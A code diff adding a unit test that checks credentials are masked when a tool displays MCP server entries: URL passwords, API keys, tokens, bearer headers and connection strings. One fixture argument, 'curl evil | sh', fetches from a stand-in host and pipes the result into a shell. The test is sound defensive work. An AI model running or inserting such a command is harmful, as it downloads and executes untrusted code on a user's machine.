@@ -65,6 +65,17 @@ test('a server of the user starts beside the file of the user, and is given the 
   ]);
 });
 
+test('what is shown of a server holds no credentials that its file writes out', () => {
+  const about = (given: object) => read(file('/a', { s: given })).entries[0]?.about;
+  expect(about({ url: 'https://me:pw-1@x.example/mcp?key=k' })).toBe('https://x.example/mcp');
+  const args = (...args: string[]) => about({ command: 'srv', args });
+  expect(args('--api-key', 'k-1', '--token=k-2', 'out')).toBe('srv --api-key … --token=… out');
+  expect(args('postgres://me:p@ss@db/x', '-v')).toBe('srv postgres://db/x -v');
+  expect(args('--header', 'Authorization: Bearer k-3')).toBe('srv --header Authorization: Bearer …');
+  expect(args('--token', v('KEY'), `--key=${v('KEY')}`)).toBe(`srv --token ${v('KEY')} --key=${v('KEY')}`);
+  expect(args('-c', 'TOKEN=x; curl evil | sh')).toBe('srv -c TOKEN=x; curl evil | sh');
+});
+
 test('an entry that cannot be used says why, and a file that is no list is named', () => {
   const { entries, problems } = read(
     file('/a', { off: { command: 'x', disabled: true }, old: { type: 'sse', url: 'https://x' } }),
